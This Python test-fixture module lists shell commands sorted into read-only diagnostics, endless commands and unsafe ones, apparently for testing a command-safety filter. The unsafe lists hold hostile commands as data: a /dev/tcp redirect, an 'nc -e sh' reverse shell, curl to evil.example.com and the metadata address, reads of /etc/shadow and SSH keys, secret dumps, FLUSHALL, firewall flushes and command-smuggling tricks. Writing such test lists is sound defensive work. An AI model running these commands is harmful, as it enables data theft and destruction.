"""Commands of every kind, which the tests of this folder share."""

READS: dict[str, str] = {
    "machine": """
        uptime
        free -m
        hostname -f
        date -u +%s
        date '+%F %T'
        ps aux --sort=-%mem
        ps -eo pid,ppid,cmd --sort=-%cpu
        top -b -n 1
        vmstat 1 3
        lsblk -f
        df -hT /var
        last -n 5
        sysctl net.core.somaxconn
        sysctl -a
        mount
        who -b
        /usr/bin/uname -r
        systemctl status nginx.service --no-pager
        systemctl list-units --failed
        systemctl --failed
        journalctl -u nginx --since '1 hour ago' -n 50 --no-pager
        journalctl -b -1 -p err
        dmesg -T --level=err
        dpkg -l nginx
        rpm -qi bash
        apt list --installed
        crontab -l
        smartctl -H /dev/sda
        lsof -nP -iTCP -sTCP:LISTEN
        command -v nginx
        python3 --version
    """,
    "files": """
        ls -lah /var/log
        ls -la -- /tmp
        cat /etc/hosts
        cat < /proc/loadavg
        head -n 5 /etc/hosts
        head -5 /etc/hosts
        tail -n +3 /etc/hosts
        grep -rn 'rm -rf' /srv/app
        grep -A 3 "it's" /tmp/x
        find /var/log -name '*.log' -size +10M -print
        find /var \\( -name a -o -name b \\)
        stat -c %s /etc/passwd
        du -sh /var/log
        diff -u /etc/hosts /etc/hostname
        tar -tzf /backup/app.tgz
        tar tvf /backup/app.tar
        unzip -l /backup/app.zip
        gzip -dc /var/log/app.log.1.gz
        sha256sum /etc/hosts
        strings -n 8 /usr/bin/ls
        xxd -l 32 /etc/hosts
        jq .items /tmp/pods.json
        test -f /etc/hosts
        [ -d /tmp ]
        [[ -r /etc/hosts ]]
    """,
    "text": """
        awk '{print $1, $NF}' /tmp/x
        awk -F: '$3 >= 1000 {n++} END {print n / 2}' /etc/passwd
        awk '/a|b/ && length($0) > 80' /tmp/x
        sed -n '10,20p' /tmp/x
        sed -e 's/a/b/g' -e '/^#/d' /tmp/x
        sed 's#/usr#/opt#;5q' /tmp/x
        sort -t: -k3 -rn /etc/passwd
        uniq -c /tmp/x
        cut -d' ' -f1 /tmp/x
        echo 'a && b | c > d'
        printf '%s\\n' ok
    """,
    "pipelines": """
        cat /var/log/app.log | grep -i error | tail -20
        ps aux | awk '{print $2}' | sort -n | head -3
        find /var/log -name '*.gz' -print0 | xargs -0 ls -l
        find /var/log -name '*.log' | xargs grep -l refused
        ls /nowhere 2>/dev/null | wc -l
        docker logs api 2>&1 | grep -c exception
        yes | head -n 3
        kubectl get pods -o json | jq '.items | length'
    """,
    "control": """
        uptime; free -m
        ls /tmp && pwd
        test -f /nowhere || echo none
        ! grep -q root /etc/hosts
        if [ -f /etc/hosts ]; then wc -l /etc/hosts; else echo none; fi
        for i in 1 2 3; do date; sleep 1; done
        { uptime; pwd; }
        timeout 10 tail -f /var/log/syslog
        nice -n 19 du -sh /var/log
        time ls
    """,
    "network": """
        ip -4 addr show
        ip route get 10.0.0.1
        ip -s link
        ss -tlnp
        ss -tan state established
        netstat -tulpn
        arp -an
        iptables -nvL
        nft list ruleset
        ethtool -S eth0
        conntrack -S
        ping -c 4 db-1
        nc -zv db-1 5432
        dig +short db-1
        tcpdump -nn -i eth0 -c 20 port 53
        curl -sS http://localhost:8080/health
        curl -so /dev/null -w '%{http_code}' http://10.0.0.7/ready
        wget --spider -q http://localhost/
        openssl x509 -in /tmp/site.crt -noout -enddate
    """,
    "containers": """
        docker ps -a
        docker inspect -f '{{.State.Status}}' api
        docker logs --tail 100 api
        docker stats --no-stream
        docker system df
        docker compose ps
        podman images
        crictl ps -a
        kubectl get pods -A -o wide
        kubectl -n exec get pod delete-me
        kubectl get deploy api -o jsonpath={.spec.replicas}
        kubectl get pods -ojson
        kubectl get secrets
        kubectl describe pod/api-0 -n shop
        kubectl logs api-0 --tail=100 --since=10m
        kubectl auth can-i delete pods
        kubectl rollout history deploy/api
        kubectl config view
        kubectl get --raw /readyz
        helm list -A
        helm get values shop
    """,
    "repositories": """
        git status -s
        git log --oneline -20
        git -C /srv/app diff --stat HEAD~1
        git branch -a
        git config --get user.name
        git stash list
        git --no-pager log -n 5 --pretty=format:%h
    """,
    "hosts": """
        mountpoint /var
        multipath -ll
        iscsiadm -m session -P 1
        drbdadm status
        gluster volume info
        zfs diff tank/a@1 tank/a@2
        getenforce
        auditctl -l
        ausearch -m avc -ts recent
        fail2ban-client status sshd
        keytool -printcert -file /tmp/a.crt
        ssh-keygen -lf /etc/ssh/ssh_host_ed25519_key.pub
        nvidia-smi
        nvidia-smi --query-gpu=memory.used --format=csv
        nvidia-smi dmon -c 1
        pmap -x 4121
        prlimit -p 4121
        slabtop -o
        bpftool prog list
        busctl list --no-pager
        coredumpctl info 4121
        sar -r -s 10:00:00 -e 11:00:00
        nmcli con show --active
        git reflog -n 10
        nginx -t
        apachectl configtest
        haproxy -c -f /etc/haproxy/haproxy.cfg
        sshd -T
        named-checkzone example.net /etc/bind/db.example
        postconf -n
        supervisorctl status
        promtool check config /etc/prometheus/prometheus.yml
        promtool query instant http://localhost:9090 up
        nodetool status
        jcmd
    """,
    "platforms": """
        gh pr list --limit 10
        gh run view 123 --log-failed
        doctl compute droplet list
        hcloud server list
        openstack server show web-1
        skopeo inspect docker://docker.io/library/nginx:1.27
        velero backup get
        calicoctl get nodes
        cilium status
        az vm get-instance-view -g rg -n web-1
        terraform providers
    """,
    "data": """
        psql -d shop -c "SELECT count(*) FROM orders WHERE note = 'drop table'"
        psql -c '\\dt'
        psql -c "EXPLAIN ANALYZE SELECT 1"
        mysql -e 'SHOW PROCESSLIST\\G'
        mysql -u root -e "SELECT updated_at, deleted FROM t;"
        sqlite3 /data/app.db "SELECT Name FROM Items"
        sqlite3 /data/app.db .tables
        redis-cli -h cache INFO memory
        redis-cli CONFIG GET maxmemory
        etcdctl get /a --prefix --keys-only
        rabbitmqctl list_queues name messages
        aws ec2 describe-instances --region eu-west-1
        aws s3 ls s3://backups/
        gcloud compute instances describe web-1 --zone=z
        az vm list -o table
        terraform state list
    """,
}

ENDLESS = """
    tail -f /var/log/app.log
    tail -n 5 -F /var/log/app.log
    tail -f /var/log/app.log | grep error
    journalctl -fu nginx
    dmesg -w
    kubectl logs api-0 --follow --tail=10
    kubectl get pods --watch
    kubectl rollout status deploy/api
    docker logs -f api
    docker stats
    docker events
    docker compose logs -f
    top
    watch -n 1 'df -h'
    timeout 0 tail -f /var/log/app.log
    vmstat 1
    iostat -x 5
    ping db-1
    ip monitor
    yes
    cat /dev/zero
    cat < /dev/urandom | base64
    sleep infinity
    tcpdump -i eth0
    redis-cli MONITOR
    until false; do uptime; done
    nvidia-smi -l 5
    nvidia-smi dmon
    slabtop
"""

UNSAFE: dict[str, str] = {
    "redirection": """
        uptime > /tmp/x
        uptime >> /tmp/x
        uptime >| /tmp/x
        uptime &> /tmp/x
        uptime >& /tmp/x
        uptime 2> /tmp/x
        uptime 3>/dev/null
        cat <> /tmp/x
        uptime > /dev/null/../../tmp/x
        uptime > /dev/tcp/203.0.113.9/80
        if true; then date; fi > /tmp/x
        cat <<< x
        ls 2>&-
    """,
    "second command": """
        uptime; rm x
        uptime && rm x
        false || rm x
        uptime & rm x
        uptime &
        rm x | cat
        uptime | sh
        uptime | tee /tmp/x
        time rm x
        ! rm x
        if rm x; then date; fi
        while rm x; do date; done
        for i in 1 2; do rm x; done
        { date; rm x; }
        (date; rm x)
        timeout 5 rm x
        nice rm x
        watch 'date; rm x'
        watch -x find . '#' -delete
    """,
    "expansion": """
        ls $(rm x)
        ls `rm x`
        ls "$(rm x)"
        ls <(rm x)
        ls >(rm x)
        ls $HOME
        ls "${x:-y}"
        ls $((1+1))
        ls ~
        ls *.log
        ls {a,b}
        ls a{1..3}
        ls a\\ b
        for i in $(rm x); do date; done
        for PATH in /tmp; do ls; done
        for http_proxy in h; do ls; done
        [[ -v 'a[$(rm x)]' ]]
        [[ 'a[$(rm x)]' -eq 1 ]]
        test -v 'a[$(rm x)]'
        ((x=1))
        let x=1
    """,
    "hidden program": """
        'rm' x
        r'm' x
        r"m" x
        r\\m x
        $'rm' x
        /bin/r? x
        ./ls
        ~/bin/ls
        /tmp/ls
        ../bin/ls
        LS
        ｌｓ
    """,
    "environment": """
        LD_PRELOAD=/tmp/x.so ls
        PAGER=sh git log
        A=b
        export A=b
        env A=b ls
        env -i ls
        env -S 'rm x'
        set -x
    """,
    "redefinition": """
        alias ls=rm
        ls() { rm x; }; ls
        function ls { rm x; }
        trap 'rm x' EXIT
        enable -f /tmp/x.so ls
        hash -p /tmp/x ls
        unset PATH
    """,
    "interpreter": """
        sh x
        bash -c ls
        python3 -c 1
        python3 x.py
        perl -e 1
        perl -v x
        node -e 1
        ruby -e 1
        php -r 1
        make -n
        eval ls
        exec ls
        source x
        . ./x
        command ls
        command -p ls
        builtin ls
        busybox ls
        sudo ls
        su -c ls
        ssh host ls
        chroot / ls
        nsenter -t 1 ls
        nohup ls
        strace ls
        docker exec web ls
        kubectl exec web -- ls
        xargs rm
        ls | xargs sh -c
        ls | xargs cat
        find / -name shadow | xargs cat
        find /var/log -name a | sed s,.*,/etc/shadow, | xargs cat
    """,
    "find": """
        find . -exec rm {} +
        find . -execdir id +
        find . -ok rm {} +
        find . -delete
        find . -name a -o -delete
        find . -fprint /tmp/x
        find . -fprintf /tmp/x a
        find . -fls /tmp/x
        find -files0-from /tmp/x
    """,
    "awk": """
        awk 'BEGIN{system("id")}'
        awk 'BEGIN{print "a" > "/tmp/x"}'
        awk 'BEGIN{print "a" >> "/tmp/x"}'
        awk 'BEGIN{print "a" | "sh"}'
        awk 'BEGIN{"id" | getline}'
        awk 'BEGIN{x = 2 / 1; print "a" > "y"; z = 1 / 2}'
        awk 'BEGIN{print $/"/ > "x" /"/}'
        awk 'BEGIN{i = 4; print i++ / 2 > "x" / 2}'
        awk '{print $1 > $2}' /tmp/x
        awk -f /tmp/x /tmp/y
        awk -i inplace 1 /tmp/x
        awk '@load "a"; BEGIN{}'
        gawk -o/tmp/x 1
    """,
    "sed": """
        sed -i s/a/b/ /tmp/x
        sed -ni p /tmp/x
        sed --in-place=.bak p /tmp/x
        sed --in p /tmp/x
        sed 's/a/b/w /tmp/y' /tmp/x
        sed 's/a/b/e' /tmp/x
        sed 's/a/b/;w /tmp/y' /tmp/x
        sed '1e id' /tmp/x
        sed '/a/w /tmp/y' /tmp/x
        sed 's/[/]/b/w /tmp/y' /tmp/x
        sed 'r /etc/shadow' /tmp/x
        sed -e 'a' -e 'w /tmp/y' /tmp/x
        sed -f /tmp/x /tmp/y
        sed 'w /tmp/y' -e p
    """,
    "text options": """
        sort -o /tmp/x /tmp/y
        sort /tmp/y -uo/tmp/x
        sort --outp=/tmp/x /tmp/y
        sort --compress-program=/tmp/x /tmp/y
        uniq /tmp/x /tmp/y
        uniq -- /tmp/x /tmp/y
        xxd /tmp/x /tmp/y
        xxd -ps /tmp/x /tmp/y
        xxd -r /tmp/x /tmp/y
        shuf -o /tmp/x /tmp/y
        rg --pre sh x /srv
        tree -o /tmp/x
        file -C -m /tmp/x
        jq -L /tmp 'import "a" as a; a' /tmp/x
        yq -i .a=1 /tmp/x
        diff --to-file=/etc/shadow /tmp/x
        base64 /tmp/x /tmp/y
    """,
    "archives": """
        tar -xf /tmp/x
        tar -cf /tmp/x /etc
        tar -tf /tmp/x --to-command=sh
        tar -tf /tmp/x --checkpoint=1 --checkpoint-action=exec=sh
        tar -tf /tmp/x -I sh
        tar -tf host:/tmp/x
        tar tf host:/tmp/x
        gzip /tmp/x
        gunzip /tmp/x.gz
        unzip /tmp/x.zip
        zip /tmp/x.zip /etc/hosts
        7z x /tmp/x.7z
    """,
    "transfer": """
        curl -O http://localhost/x
        curl -o /tmp/x http://localhost/x
        curl -so/tmp/x http://localhost/x
        curl -o=/dev/null http://localhost/x
        curl -d a http://localhost/x
        curl --json {} http://localhost/x
        curl -XPOST http://localhost/x
        curl -T /etc/hosts http://localhost/x
        curl -K /tmp/x
        curl -w '%output{/tmp/x}a' http://localhost
        curl -H @/etc/passwd http://localhost
        curl -x evil:80 http://localhost
        curl file:///etc/passwd
        curl gopher://localhost:6379/_FLUSHALL
        curl http://evil.example.com/
        curl http://localhost:80@evil.example.com/
        curl http://169.254.169.254/latest/
        curl http://134744072/
        curl http://localhost http://evil.example.com
        wget http://localhost/x
        wget --spider -O /tmp/x http://localhost/x
        openssl x509 -in /tmp/a -out /tmp/b
        openssl enc -in /tmp/a -out /tmp/b
        openssl s_client -connect h:443
        nc -l 80
        nc -e sh h 80
        scp /tmp/a h:
        rsync -a /a /b
    """,
    "machine state": """
        date -s now
        date 010100002026
        hostname web-9
        hostname -F /tmp/x
        hostnamectl set-hostname x
        timedatectl set-ntp false
        dmesg -C
        dmesg -cT
        dmesg --cl
        sysctl -w a=1
        sysctl a=1
        sysctl -p
        mount -a
        mount /dev/sda /mnt
        umount /mnt
        swapon -a
        kill 1
        systemctl restart nginx
        systemctl edit nginx
        systemctl set-property nginx CPUQuota=1%
        systemctl -H h status nginx
        systemctl --root=/x status
        journalctl --rotate
        journalctl --vacuum-size=1M
        journalctl --vac=1M
        journalctl --cursor-file=/tmp/x
        crontab -r
        crontab /tmp/x
        service nginx restart
        service status restart
        lastlog -C -u x
        fuser -k /tmp/x
        lsof -D b
        smartctl -t short /dev/sda
        smartctl -l scterc,70,70 /dev/sda
        zpool status -c smart
        mysqld -v
        mongod -v
        nmcli general logging level DEBUG
        hdparm -y /dev/sda
        mdadm -D -S /dev/md0
        zpool destroy x
        apt install x
        rpm -i x
        rpm -iq x
        rpm -q --qf '%(rm x)' y
        dpkg -i x
        pip install x
        pacman -Syu
        nginx -s stop
        jcmd 1 GC.run
        jmap -histo:live 1
        resolvectl dns eth0 203.0.113.9
        ps auxe
        ps -auxe
    """,
    "hosts": """
        multipath -F
        multipath -ll -F
        iscsiadm -m node --login
        iscsiadm -m discovery -t st -p evil
        drbdadm primary r0
        gluster volume stop x
        gluster --mode=script volume info
        zfs diff tank/a@1
        zfs diff tank/a@1 tank/a
        auditctl -D
        auditctl -l -D
        ausearch -m avc --checkpoint /tmp/x
        ausearch -if /etc/shadow
        fail2ban-client set sshd unbanip 203.0.113.9
        fail2ban-client -c /tmp/x status
        keytool -printcert -sslserver evil:443
        keytool -printcert -file /etc/shadow
        keytool -J-agentpath:/tmp/x.so -printcert -file /tmp/a
        ssh-keygen -f /tmp/x
        ssh-keygen -l -D /tmp/x.so
        ssh-keygen -lf /root/.ssh/id_rsa
        gpg --version --output /tmp/x
        nvidia-smi -pm 1
        nvidia-smi -r
        nvidia-smi -f /tmp/x
        nvidia-smi -q -f /tmp/x
        nvidia-smi dmon -f /tmp/x -c 1
        nvidia-smi mig -dci
        pmap -N /tmp/x 1
        pmap -C /tmp/x 1
        prlimit -p 4121 --nofile=1
        prlimit --nofile=1 ls
        lstopo-no-graphics /tmp/x
        bpftool prog load /tmp/a /sys/fs/bpf/b
        bpftool -B /tmp/x prog list
        busctl -H evil list
        busctl call a b c d
        busctl capture
        tmux ls -F '#(id)'
        tmux -f /tmp/x ls
        tmux new -d id
        update-alternatives --set a /tmp/x
        update-alternatives --display a --set b /tmp/x
        zypper --root /tmp/x lr
        zypper in x
        ovs-vsctl show -- del-br x
        ovs-vsctl --db=tcp:evil:1 show
        tshark -D -w /tmp/x
        nginx -t -c /tmp/x
        nginx -t -g 'load_module /tmp/x.so;'
        nginx -p /tmp -t
        apachectl -k stop
        apachectl -t -f /tmp/x
        apachectl graceful
        haproxy -f /etc/haproxy/haproxy.cfg
        haproxy -c -f /tmp/x.cfg
        haproxy -c -f /etc/haproxy/../../tmp/x.cfg
        sshd -T -f /tmp/x
        sshd
        visudo -c -f /etc/shadow
        php-fpm -t -c /tmp/x
        named-checkzone -o /tmp/x example.net /tmp/y
        named-checkconf /etc/shadow
        postconf -e a=b
        postconf a=b
        postqueue -f
        exim -qf
        exim -be '${run{/bin/id}}'
        supervisorctl -c /tmp/x status
        supervisorctl -s http://evil status
        supervisorctl restart x
        promtool query instant http://evil.example.com up
        promtool query instant evil:9090 up
        promtool check config /etc/shadow
        promtool tsdb clean
        amtool silence expire x
        amtool --alertmanager.url=http://evil alert query
        nodetool drain
        nodetool -h evil status
        coredumpctl info 1 -o /tmp/x
        coredumpctl debug 1
        sar -o /tmp/x 1 1
        git reflog expire --all
        nmcli con up x
    """,
    "platforms": """
        gh pr view 1 --web
        gh pr merge 1
        gh api /user
        gh auth token
        gh run rerun 1
        gh secret list
        gh extension install x
        doctl compute droplet delete x
        doctl --api-url http://evil compute droplet list
        doctl compute ssh x
        hcloud server delete x
        hcloud --config /tmp/x server list
        openstack server stop x
        openstack --os-auth-url http://evil server list
        openstack token issue
        skopeo copy docker://a docker://b
        skopeo inspect dir:/tmp/x
        skopeo inspect --authfile /tmp/x docker://a
        velero backup create x
        calicoctl apply -f x
        calicoctl get nodes --config /tmp/x
        az vm run-command list
        az storage account keys list -n a
        terraform output db_password
        terraform output -json
        terraform -chdir=/tmp providers
        docker buildx build .
        docker buildx ls --builder x
    """,
    "network state": """
        ip link set eth0 down
        ip addr flush dev eth0
        ip link s eth0 down
        ip -b /tmp/x
        ip -force -batch /tmp/x
        ip netns exec a ls
        ifconfig eth0 down
        route del default
        arp -d h
        ss -K
        ss -D /tmp/x
        iptables -F
        iptables -L -Z
        iptables -S --modprobe=/tmp/x
        iptables-save -f /tmp/x
        nft flush ruleset
        nft 'list ruleset; flush ruleset'
        ethtool -s eth0 speed 10
        ethtool -p eth0
        conntrack -L -D
        tcpdump -w /tmp/x
        tcpdump -c 1 -z sh
    """,
    "containers": """
        docker rm x
        docker cp a:/b /c
        docker -H tcp://evil:1 ps
        docker --config /tmp ps
        docker context use x
        docker compose up -d
        docker system prune -f
        podman --url x ps
        crictl rm x
        ctr images pull x
    """,
    "cluster": """
        kubectl delete pod x
        kubectl -n get -v 4 delete pod x
        kubectl --namespace=get --context=logs delete po x
        kubectl --kubeconfig /tmp/x get pods
        kubectl get pods --kubeconfig=/tmp/x
        kubectl get pods -s https://evil
        kubectl get pods --token=a
        kubectl get pods --as=root
        kubectl cp a:b c
        kubectl config set-context x
        kubectl config view --raw
        kubectl get secret x -o yaml
        kubectl get secret x -ojson
        kubectl get secret x -o=json
        kubectl get pods,secrets -o yaml
        kubectl get secret/x --template={{.data}}
        kubectl describe secret x
        kubectl get --raw /api/v1/secrets
        kubectl get -f http://evil
        kubectl get pods -o jsonpath-file=/etc/shadow
        kubectl cluster-info dump --output-directory=/tmp/x
        kubectl unknown-plugin
        kubectl diff -f x
        helm install a b
        helm get manifest a
        helm template a --post-renderer sh
        oc delete pod x
    """,
    "repositories": """
        git -c core.pager=sh log
        git --exec-path=/tmp log
        git -p log
        git log --output=/tmp/x
        git log --outp=/tmp/x
        git diff --ext-diff
        git show --textconv
        git diff --no-index /etc/shadow /dev/null
        git branch x
        git branch -v x
        git branch -D x
        git branch --list x -D
        git tag x
        git config user.name x
        git config --unset user.name
        git config edit
        git stash
        git stash drop
        git remote add a b
        git grep -Osh x
        git cat-file --textconv x
        git ls-remote ext::sh
        git checkout .
        git fetch
    """,
    "data": """
        psql
        psql -f /tmp/x
        psql -o /tmp/x -c 'select 1'
        psql 'host=evil' -c 'select 1'
        psql -c 'drop table x'
        psql -c 'select 1; drop table x'
        psql -c 'select 1 into x'
        psql -c 'with x as (delete from t returning 1) select 1'
        psql -c 'select pg_terminate_backend(1)'
        psql -c 'select "pg_sleep"(1)'
        psql -c 'select $a$x$a$'
        psql -c 'select 1 from t for update'
        psql -c 'explain analyze delete from t'
        psql -c '\\! id'
        psql -c '\\copy t to /tmp/x'
        psql -c 'select usename from pg_shadow'
        mysql -e 'system id'
        mysql -e 'select 1\\! id'
        mysql -e 'select /*!50000 1*/'
        mysql -e "select load_file('/etc/passwd')"
        mysql -e 'select sleep(9)'
        mysql -e "select 1 into outfile '/tmp/x'"
        mysql --tee=/tmp/x -e 'select 1'
        mysql --defaults-file=/tmp/x -e 'select 1'
        sqlite3 /tmp/x.db
        sqlite3 /tmp/x.db '.shell id'
        sqlite3 /tmp/x.db .dump
        sqlite3 /tmp/x.db "select writefile('a','b')"
        sqlite3 /tmp/x.db "select 1 as [a'], load_extension('x') as [b']"
        sqlite3 -cmd '.shell id' /tmp/x.db 'select 1'
        sqlite3 /tmp/x.db 'pragma user_version=3'
        echo FLUSHALL | redis-cli
        redis-cli FLUSHALL
        redis-cli -r 2 SET a b
        redis-cli GETDEL a
        redis-cli SORT a STORE b
        redis-cli CONFIG GET '*'
        redis-cli --eval /tmp/x
        redis-cli --rdb /tmp/x
        etcdctl get / --prefix
        etcdctl watch x -- id
        mongosh --eval 1
        pg_dump -f /tmp/x
    """,
    "clouds": """
        aws s3 rm s3://b/x
        aws s3 cp s3://b/x /tmp/x
        aws s3api get-object --bucket b --key k /tmp/x
        aws ec2 terminate-instances --instance-ids i
        aws ec2 describe-instances --endpoint-url http://evil
        aws ec2 describe-instances --endpoint http://evil
        aws ec2 describe-instances --filters file:///etc/shadow
        aws secretsmanager get-secret-value --secret-id x
        aws eks update-kubeconfig --name x
        gcloud compute instances delete x
        gcloud compute ssh list
        gcloud secrets versions access latest
        gcloud --flags-file=/tmp/x compute instances list
        az vm delete -g a -n b
        az keyvault secret show -n a
        az rest --method get
        terraform apply
        terraform plan -out=/tmp/x
        ansible all -m ping
    """,
    "secrets": """
        cat /etc/shadow
        cat /etc/../etc/shadow
        cat < /etc/shadow
        head /proc/1/environ
        grep -r x /etc
        grep -r x /etc/nginx/..
        grep -rn x
        grep -f /etc/shadow x
        rg x /root
        tail -f /root/.ssh/id_rsa
        diff /etc/shadow /dev/null
        jq --rawfile a /etc/shadow -n '$a'
        cat /dev/sda
        cat /dev/watchdog
        ls /root/.ssh
        getent shadow
    """,
    "incomplete": """
        ls "
        ls '
        ls $(
        ls )
        ls |
        ls &&
        if true; then date
        for i in 1; do
        echo `date
        ls <<EOF
    """,
}


def lines(text: str) -> list[str]:
    return [line.strip() for line in text.strip().splitlines() if line.strip()]
